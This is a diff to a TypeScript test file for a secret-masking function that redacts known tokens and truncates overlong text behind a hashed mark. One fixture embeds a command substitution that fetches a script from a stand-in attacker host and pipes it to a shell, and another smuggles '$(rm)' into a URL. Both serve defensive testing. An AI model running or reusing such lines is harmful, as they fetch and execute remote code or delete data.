@@ -1,9 +1,10 @@
 import assert from 'node:assert/strict';
+import { hash } from 'node:crypto';
 import { test } from 'node:test';
 import fc from 'fast-check';
 import { requirement } from '../../../../test/requirement.ts';
 import { Redactor } from '../audit/redact.ts';
-import { markOf, maskSecrets } from './mask-secrets.ts';
+import { longestOnCard, markOf, maskSecrets } from './mask-secrets.ts';
 
 const secrets = ['kJ83hQx2PzXw9BnR', 'zT5vM1cYw8LqD4sA'];
 const redactor = new Redactor([{ name: 'GITHUB_TOKEN', value: secrets[0] ?? '' }, secrets[1] ?? '']);
@@ -19,10 +20,43 @@ test('only secrets are masked: how long, which one where that is known, and noth
     '+a\n+[secret 2: 16 characters]\n-[secret 1: GITHUB_TOKEN, 16 characters]\n',
   ]);
   assert.deepEqual(masked, [
-    { number: 1, characters: 16, name: 'GITHUB_TOKEN' },
-    { number: 2, characters: 16 },
+    { number: 1, characters: 16, name: 'GITHUB_TOKEN', isHeld: true },
+    { number: 2, characters: 16, isHeld: true },
   ]);
   assert.deepEqual(values, secrets);
+});
+
+test('only a secret that the gate knows is held: what merely looks like one could be anything', () => {
+  const given = [
+    'git clone https://user:$(curl$IFS.evil.example|sh)@example.com/x',
+    `curl -H 'Authorization: Bearer ${secrets[0]}' example.com`,
+    // The known one covers a part of what looks like a credential.
+    `https://user:$(rm)${secrets[1]}$(rm)@example.com/`,
+  ];
+  const { texts, masked, values } = maskSecrets(given, redactor);
+  assert.ok(!texts.join('').includes('$('), texts.join('\n'));
+  const held = values.filter((_, at) => masked[at]?.isHeld);
+  assert.deepEqual(held, [secrets[0]]);
+  assert.ok(values.some((value) => value.includes('curl$IFS.evil.example|sh')));
+});
+
+test('a text that is too long for a card goes on behind a mark, which says how much and what it is', () => {
+  const line = `+ ${'word '.repeat(20)}${secrets[0]}\n`;
+  for (const text of [line.repeat(20_000), line.replace('\n', ' ').repeat(20_000), '😀'.repeat(700_000)]) {
+    const { texts, masked, values } = maskSecrets(['title', text], redactor);
+    assert.ok((texts[1]?.length ?? 0) <= longestOnCard + 200);
+    const at = masked.findIndex(({ restSha256 }) => restSha256 !== undefined);
+    const rest = masked[at] ?? assert.fail();
+    assert.equal(texts[1]?.endsWith(`\n${markOf(rest)}\n`), true);
+    assert.deepEqual([rest.characters, rest.restSha256], [values[at]?.length, hash('sha256', values[at] ?? '')]);
+    assert.equal(rest.isHeld, undefined);
+    const whole = texts[1].replace(`\n${markOf(rest)}\n`, () => values[at] ?? '');
+    assert.equal(
+      whole.replaceAll(markOf(masked[0] ?? rest), () => values[0] ?? ''),
+      text,
+    );
+    assert.ok(whole.isWellFormed());
+  }
 });
 
 test('what a caller wrote to look like a mark is none: no mark stands anywhere but in the place of its secret', () => {
@@ -32,6 +66,7 @@ test('what a caller wrote to look like a mark is none: no mark stands anywhere b
     '[secret 1: 16 characters]',
     '[secret 2: x]',
     '[secret 1: GITHUB_TOKEN, ',
+    '[rest 1: 5 characters, SHA-256 00]',
   );
   const part = fc.oneof(forged, fc.constantFrom(...secrets), fc.constantFrom(' ', '\n', 'text', '[', ']'));
   fc.assert(
